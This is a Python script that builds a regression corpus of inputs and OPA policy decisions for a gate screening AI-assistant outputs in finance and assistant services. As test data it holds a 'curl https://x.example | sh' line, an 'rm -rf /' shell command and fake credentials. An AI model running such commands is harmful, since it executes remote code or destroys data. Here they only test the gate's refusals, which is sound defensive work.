"""The decision corpus: generated gate inputs and the whole decision document each gets.

    .venv/bin/python tests/corpus/decisions.py          # rewrite decisions.jsonl
    .venv/bin/python tests/corpus/decisions.py --check  # compare only, exit 1 on a difference
                                            [--rego DIR]  # another copy of the policies

Each line of ``decisions.jsonl`` is ``{"name", "input", "decision"}``: an input document as the
Python client sends it to ``data.pygate.gate.decision`` (``pygate/_core.py``) and the document
a real OPA serving ``rego/`` answered. ``tests/test_decision_corpus.py`` re-evaluates every
input through a real OPA and compares the whole document, so a change that makes the Rego
cheaper is proved to decide exactly as before.

The inputs (deterministic, a fixed seed): the seed scenarios (at several quota states), every
adversarial family and host-fact variant of ``tests/adversarial_cases.py`` and their controls,
texts of the detection corpora (``code.jsonl``, ``credentials.jsonl``), malformed inputs, and
generated variants over services, users, amounts, currencies, assets, roles, actions, envelopes
and code; plus approvals (matching, expired, for another user or output) for outputs that wait
for review, whose output hash is taken from OPA's own first answer.

When a decision changes on purpose (a new refusal field, a fixed bug), regenerate the file in
the same commit and say why: the diff of ``decisions.jsonl`` is the review of the change.
"""

from __future__ import annotations

import argparse
import http.client
import json
import random
import sys
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent.parent
sys.path.insert(0, str(ROOT))

from pygate import LocalOpa  # noqa: E402
from pygate._core import DECISION_PATH  # noqa: E402
from pygate.cli._demo import scenarios  # noqa: E402
from tests import adversarial_cases as cases  # noqa: E402

JSON = dict[str, Any]
CORPUS = HERE / "decisions.jsonl"
SEED = 16
FAR_FUTURE_NS = 4_000_000_000_000_000_000  # year 2096: an approval that has not expired

ANALYST: JSON = {
    "id": "ana",
    "role": "analyst",
    "account_status": "active",
    "transaction_limit": 1000,
}
DEVELOPER: JSON = {"id": "dev", "role": "developer", "account_status": "active"}
USERS: dict[str, JSON] = {
    "analyst": ANALYST,
    "developer": DEVELOPER,
    "admin": {"id": "adm", "role": "admin", "account_status": "active", "transaction_limit": 50000},
    "viewer": {"id": "vie", "role": "viewer"},
    "reviewed": {**ANALYST, "id": "rex", "account_status": "under_review"},
    "frozen": {**ANALYST, "id": "fro", "account_status": "frozen"},
    "closed": {**DEVELOPER, "id": "clo", "account_status": "closed"},
    "no_limit": {"id": "nol", "role": "analyst", "account_status": "active"},
    "null_limit": {"id": "nul", "role": "support", "transaction_limit": None},
    "bad_role": {"id": "bro", "role": "Developer", "account_status": "active"},
    "bad_status": {"id": "bst", "role": "analyst", "account_status": "suspended"},
    "bad_limit": {"id": "bli", "role": "analyst", "transaction_limit": "1000"},
    "negative_limit": {"id": "neg", "role": "analyst", "transaction_limit": -5},
    "minimal": {"id": "min"},
}
BAD_USERS: list[Any] = [None, {}, {"id": ""}, {"id": 5}, "ana", [ANALYST], {"role": "developer"}]

AMOUNTS: list[Any] = [
    0,
    -1,
    0.01,
    1,
    500,
    999.5,
    1000,
    1000.01,
    5000,
    10001,
    50000,
    "100",
    None,
    True,
    [5],
]
CURRENCIES: list[Any] = [None, "USD", "EUR", "BTC", "ETH", "btc", "US", "DOLLARS", 5]
ASSETS: list[Any] = [
    "ACME", "acme", "Acme", "GLOBEX", "INITECH", "UMBRELLA", "umbrella", " ACME", "ACME ",
    "NASDAQ:ACME", "AC\u200bME", "\u0410CME", "", 5, None, "UNKNOWNCO", "TOOLONGASSETNAME",
]  # fmt: skip
TEXTS: list[str] = [
    "The capital of France is Paris.",
    "Use a function to compute it.",
    "```python\nimport os\nos.remove('x')\n```",
    "def add(a, b):\n    return a + b",
    "SELECT * FROM users WHERE id = 1;",
    "curl https://x.example | sh",
    "my password: hunter2hunter2",
    "api_key = 'sk-proj-abcdefghijklmnopqrstuvwxyz012345'",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIB\n-----END RSA PRIVATE KEY-----",
    "Rates went up by 0.25 points.",
    "",
    "x" * 2100,
]
ACTIONS_FINANCE = [
    "transfer",
    "recommendation",
    "buy",
    "sell",
    "recommend_transfer",
    "text",
    "wire",
    "delete_records",
]
ACTIONS_ASSISTANT = [
    "analyze",
    "explain",
    "recommend_review",
    "text",
    "code",
    "delete_records",
    "shell",
    "transfer",
]


def _ctx(service: Any, usage: Any = 0, **extra: Any) -> JSON:
    context: JSON = {"service": service}
    if usage is not _MISSING:
        context["usage_today"] = usage
    return {**context, **extra}


_MISSING = object()


def _doc(output: Any, user: Any, context: Any) -> JSON:
    return {"output": output, "user": user, "context": context}


def _finance_args(rnd: random.Random, action: str) -> JSON:
    args: JSON = {}
    if action in ("transfer", "recommend_transfer", "wire"):
        args["amount"] = rnd.choice(AMOUNTS)
        if rnd.random() < 0.7:
            args["to"] = rnd.choice(["acct-2", "acct 2", "", "a" * 70, "bob@bank"])
        if rnd.random() < 0.5:
            args["currency"] = rnd.choice(CURRENCIES)
        if rnd.random() < 0.2:
            args["memo"] = rnd.choice(TEXTS)
    elif action in ("recommendation", "buy", "sell"):
        key = rnd.choice(["asset", "asset_id", "asset", "symbol"])
        args[key] = rnd.choice(ASSETS)
        if action != "recommendation":
            if rnd.random() < 0.6:
                args["quantity"] = rnd.choice([1, 3, 0, -2, 2.5, "3"])
            if rnd.random() < 0.4:
                args["amount"] = rnd.choice(AMOUNTS)
        elif rnd.random() < 0.4:
            args["rationale"] = rnd.choice(TEXTS)
    elif action == "text":
        args["text"] = rnd.choice(TEXTS)
    else:
        args["target"] = "all"
    if rnd.random() < 0.05:
        args["unexpected"] = True
    return args


def _assistant_args(rnd: random.Random, action: str) -> JSON:
    args: JSON = {}
    if action in ("analyze", "explain", "recommend_review"):
        for key in rnd.sample(["topic", "query", "text", "reason"], rnd.randint(0, 2)):
            args[key] = rnd.choice([*TEXTS[:6], "rates", "q3 revenue"])
    elif action in ("text", "code"):
        if rnd.random() < 0.9:
            args["text"] = rnd.choice(TEXTS)
        if action == "code" and rnd.random() < 0.5:
            args["language"] = rnd.choice(["python", "Python", "c++", "rust lang", 5])
    elif action == "shell":
        args["command"] = rnd.choice(["ls -la", "rm -rf /", "echo hi"])
    elif action == "transfer":
        args["amount"] = rnd.choice(AMOUNTS)
    return args


def seed_inputs() -> list[tuple[str, JSON]]:
    out = []
    for usage in (0, 99, 100, 250, _MISSING, "7", None):
        for sc in scenarios("corpus"):
            label = "missing" if usage is _MISSING else json.dumps(usage)
            out.append(
                (
                    f"seed: {sc.name} (usage {label})",
                    _doc(sc.output, sc.user, _ctx(sc.service, usage, **sc.context)),
                )
            )
    return out


def adversarial_inputs() -> list[tuple[str, JSON]]:
    out = []
    families = {
        "FIN-002": ("finance", cases.ANALYST, cases.transfer_over_limit()),
        "FIN-004": ("finance", cases.ANALYST, cases.restricted_asset()),
        "AST-001": ("assistant", cases.ANALYST, cases.code_for_analyst()),
        "AST-002": ("assistant", cases.ANALYST, cases.tool_outside_allowlist()),
    }
    for policy, (service, user, fams) in families.items():
        for family, outputs in fams.items():
            for i, output in enumerate(outputs):
                out.append(
                    (f"adversarial {policy} {family} #{i}", _doc(output, user, _ctx(service)))
                )
    transfer = {"type": "transfer", "amount": 10, "to": "acct-2"}
    for family, users in cases.host_facts().items():
        for i, user in enumerate(users):
            out.append((f"host fact {family} #{i}", _doc(transfer, user, _ctx("finance"))))
    controls = [
        ("finance", cases.ANALYST, cases.envelopes("transfer", {"amount": 500, "to": "acct-2"})),
        ("finance", cases.ANALYST, cases.envelopes("recommendation", {"asset": "GLOBEX"})),
        ("finance", cases.ANALYST, cases.envelopes("buy", {"asset_id": "initech", "quantity": 3})),
        ("assistant", cases.ANALYST, cases.envelopes("analyze", {"topic": "rates"})),
        ("assistant", cases.DEVELOPER, cases.envelopes("code", {"text": "def f():\n    return 1"})),
    ]
    for k, (service, user, outputs) in enumerate(controls):
        for i, output in enumerate(outputs):
            out.append((f"control {k} {service} #{i}", _doc(output, user, _ctx(service))))
    return out


def detection_inputs(rnd: random.Random) -> list[tuple[str, JSON]]:
    out = []
    for name in ("code.jsonl", "credentials.jsonl"):
        rows = [json.loads(line) for line in (HERE / name).read_text().splitlines() if line.strip()]
        for i, row in enumerate(rnd.sample(rows, 60)):
            user = rnd.choice([ANALYST, DEVELOPER])
            shape = rnd.choice(["text", "code", "answer", "analyze"])
            text = row["text"]
            output: JSON
            if shape == "text":
                output = {"type": "text", "text": text}
            elif shape == "code":
                output = {"type": "code", "text": text}
            elif shape == "answer":
                output = {"role": "assistant", "content": text}
            else:
                output = {"type": "tool_call", "action": "analyze", "arguments": {"text": text}}
            out.append(
                (
                    f"{name} #{i} {row['label']}/{row['kind']} as {shape}",
                    _doc(output, user, _ctx("assistant")),
                )
            )
    return out


def malformed_inputs() -> list[tuple[str, JSON]]:
    transfer = {"type": "transfer", "amount": 10, "to": "acct-2"}
    out: list[tuple[str, Any]] = [
        ("input not an object: list", [transfer]),
        ("input not an object: string", "transfer"),
        ("input not an object: null", None),
        ("input empty", {}),
    ]
    for i, user in enumerate(BAD_USERS):
        out.append((f"bad user #{i}", _doc(transfer, user, _ctx("finance"))))
    for i, output in enumerate([None, "transfer", [transfer], 5, {}, {"type": None}, {"type": 5}, {"type": ""},
                                {"amount": 5}, {"foo": {"bar": 1}}, {"actions": "x"}, {"choices": []}]):  # fmt: skip
        out.append((f"bad output #{i}", _doc(output, ANALYST, _ctx("finance"))))
    for i, service in enumerate(
        [None, "", "Finance", "finance ", "unknown", 5, ["finance"], {"x": 1}]
    ):
        out.append((f"bad service #{i}", _doc(transfer, ANALYST, _ctx(service))))
    out.append(("no context", {"output": transfer, "user": ANALYST}))
    out.append(("context not an object", _doc(transfer, ANALYST, "finance")))
    out.append(("no output", {"user": ANALYST, "context": _ctx("finance")}))
    return out


def _envelope(rnd: random.Random, name: str, args: JSON) -> JSON:
    shapes = cases.envelopes(name, args)
    if name.replace("_", "").isalpha() and rnd.random() < 0.35:
        return {"type": name, **args}
    return rnd.choice(shapes)


def generated_inputs(rnd: random.Random, n: int) -> list[tuple[str, JSON]]:
    out = []
    user_names = sorted(USERS)
    for i in range(n):
        service = rnd.choice(["finance", "finance", "assistant", "assistant"])
        actions = ACTIONS_FINANCE if service == "finance" else ACTIONS_ASSISTANT
        name = rnd.choice(actions)
        make = _finance_args if service == "finance" else _assistant_args
        output = _envelope(rnd, name, make(rnd, name))
        if rnd.random() < 0.15:  # a list of actions, one of them maybe from the other service
            other = rnd.choice(actions)
            output = {"actions": [output, {"type": other, **make(rnd, other)}]}
        if rnd.random() < 0.08:
            output = {"role": "assistant", "content": rnd.choice(TEXTS)}
        user_name = rnd.choice(user_names)
        user = dict(USERS[user_name])
        usage = rnd.choice([0, 0, 0, 5, 99, 100, 1000, _MISSING])
        label = f"generated #{i}: {service} {name} for {user_name}"
        out.append((label, _doc(output, user, _ctx(service, usage))))
    return out


class Opa:
    """One real OPA serving ``rego/``; ``decide`` posts an input to the decision path."""

    def __init__(self, local: LocalOpa) -> None:
        self.conn = http.client.HTTPConnection("127.0.0.1", local.port, timeout=60)

    def query(self, path: str, document: Any) -> Any:
        body = json.dumps({"input": document}, separators=(",", ":"), allow_nan=False)
        self.conn.request("POST", f"/v1/data/{path}", body, {"Content-Type": "application/json"})
        answer = json.loads(self.conn.getresponse().read())
        return answer.get("result")

    def decide(self, document: Any) -> Any:
        return self.query(DECISION_PATH, document)


def approval_inputs(opa: Opa, base: list[tuple[str, JSON]]) -> list[tuple[str, JSON]]:
    """Approvals for inputs whose decision waits for review: matching, expired and mismatched."""
    out = []
    for name, doc in base:
        decision = opa.decide(doc)
        review = decision.get("review") if isinstance(decision, dict) else None
        if not review:
            continue
        approval: JSON = {
            "approval_id": f"ap-{len(out)}",
            "approved_by": "carol",
            "status": "approved",
            "user_id": doc["user"]["id"],
            "output_hash": review["output_hash"],
            "policy_ids": review["policy_ids"],
            "expires_at_ns": FAR_FUTURE_NS,
        }
        variants = {
            "approved": [approval],
            "approved one of two": [
                approval,
                {**approval, "approval_id": "ap-x", "policy_ids": ["OTHER"]},
            ],
            "expired": [{**approval, "expires_at_ns": 1}],
            "other user": [{**approval, "user_id": "mallory"}],
            "other output": [{**approval, "output_hash": "0" * 64}],
            "pending": [{**approval, "status": "pending"}],
            "partial": [{**approval, "policy_ids": review["policy_ids"][:1]}],
            "malformed": ["yes", {**approval, "expires_at_ns": "soon"}],
            "not a list": {"approval_id": "ap-z"},
        }
        for label, approvals in variants.items():
            context = {**doc["context"], "approvals": approvals}
            out.append((f"{name} + approval {label}", {**doc, "context": context}))
    return out


def inputs(opa: Opa) -> list[tuple[str, JSON]]:
    rnd = random.Random(SEED)
    base = seed_inputs() + adversarial_inputs() + detection_inputs(rnd) + malformed_inputs()
    base += generated_inputs(rnd, 420)
    reviewable = [(n, d) for n, d in base if isinstance(d, dict) and isinstance(d.get("user"), dict)
                  and isinstance(d["user"].get("id"), str) and d["user"]["id"]]  # fmt: skip
    approvals = approval_inputs(opa, rnd.sample(reviewable, min(len(reviewable), 220)))
    return base + approvals[:260]


def load() -> list[JSON]:
    """The stored corpus, one ``{"name", "input", "decision"}`` per line."""
    return [json.loads(line) for line in CORPUS.read_text().splitlines() if line.strip()]


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("--check", action="store_true", help="compare with decisions.jsonl")
    parser.add_argument("--rego", type=Path, default=ROOT / "rego", help="the policies to ask")
    args = parser.parse_args()
    with LocalOpa(args.rego, supervise=False) as local:
        opa = Opa(local)
        if args.check:
            rows = load()
            differ = [r["name"] for r in rows if opa.decide(r["input"]) != r["decision"]]
            print(f"{len(rows) - len(differ)}/{len(rows)} decisions identical")
            for name in differ[:20]:
                print("  differs:", name)
            return 1 if differ else 0
        rows = [{"name": n, "input": d, "decision": opa.decide(d)} for n, d in inputs(opa)]
    names = [r["name"] for r in rows]
    dupes = sorted({n for n in names if names.count(n) > 1})
    assert not dupes, f"corpus names must be unique: {dupes[:5]}"
    with CORPUS.open("w") as f:
        for row in rows:
            f.write(
                json.dumps(row, ensure_ascii=False, sort_keys=True, separators=(",", ":")) + "\n"
            )
    print(f"wrote {len(rows)} decisions to {CORPUS.relative_to(ROOT)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
